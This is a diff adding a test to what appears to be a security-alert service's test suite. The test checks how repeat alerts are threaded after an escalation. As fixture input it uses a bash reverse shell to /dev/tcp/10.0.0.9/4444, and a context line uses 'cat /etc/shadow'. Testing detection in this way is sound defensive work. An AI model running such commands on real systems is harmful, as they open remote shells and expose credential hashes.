@@ -168,6 +168,30 @@ describe('conversations, not alerts', () => {
     expect(replies()).toHaveLength(3);
   });
 
+  it('a repeats reply whose record was lost is found in the thread, not posted again', async () => {
+    const reverseShell = ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'];
+    h.runCommand(ALICE, reverseShell, { session: 8 });
+    await h.settle();
+    const [lead] = await h.alerts();
+    await h.click(ALICE, lead!, 'vouch.deny');
+    await waitFor(async () => (await h.alert(lead!.id)).status === 'escalated', 'the escalation');
+    await h.settle();
+    const escalation = h.security().find((m) => m.metadata?.event_type === 'vouch_escalation')!;
+    const replies = () => h.security().filter((m) => m.threadTs === escalation.ts && /Seen again/.test(messageText(m)));
+    h.runCommand(ALICE, reverseShell, { session: 8 });
+    await h.advance(1000);
+    expect(replies()).toHaveLength(1);
+    // The reply went out, but its record did not (the database went away after the post), and
+    // more repeats came before the job ran again.
+    const db = h.service.store.db;
+    await db.updateTable('alerts').set({ repeats_posted: 0, repeats_noted_at: null }).where('id', '=', lead!.id).execute();
+    for (let i = 0; i < 3; i += 1) h.runCommand(ALICE, reverseShell, { session: 8 });
+    await h.advance(1000);
+    await h.advance(REPEAT_REPLY_INTERVAL_MS);
+    expect(replies().map((m) => messageText(m).match(/Seen again\* \((\d+) more\)/)?.[1] ?? messageText(m).slice(0, 40))).toEqual([expect.anything(), '3']);
+    expect((await h.alert(lead!.id)).repeats_posted).toBe(4);
+  });
+
   it('pace: one open question per person; what comes meanwhile waits and is asked when the first ends', async () => {
     h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 1 });
     await h.settle();
